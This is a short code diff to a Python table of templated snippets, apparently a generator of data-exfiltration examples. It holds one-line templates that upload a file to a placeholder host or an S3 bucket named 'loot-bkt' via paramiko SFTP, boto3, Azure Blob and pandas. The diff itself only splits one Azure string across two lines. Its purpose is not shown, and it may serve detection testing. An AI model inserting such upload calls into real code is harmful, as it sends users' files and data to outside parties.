@@ -280,7 +280,8 @@ PY = {
     "py-paramiko": ["import paramiko\nc = paramiko.SSHClient()\nc.connect('{h}', username='u')\nc.open_sftp().put('{f}', '/tmp/x')"],
     "py-boto3": ["import boto3\nboto3.client('s3').upload_file('{f}', 'loot-bkt', 'x')"],
     "py-azure": [
-        "from azure.storage.blob import BlobServiceClient\nsvc = BlobServiceClient(account_url='https://{h}')\nsvc.get_blob_client(container='c', blob='b').upload_blob(open('{f}', 'rb'))"
+        "from azure.storage.blob import BlobServiceClient\nsvc = BlobServiceClient(account_url='https://{h}')\n"
+        "svc.get_blob_client(container='c', blob='b').upload_blob(open('{f}', 'rb'))"
     ],
     "py-pandas": ["import pandas as pd\npd.read_csv('{f}').to_csv('https://{h}/drop')"],
     "py-shellout": [
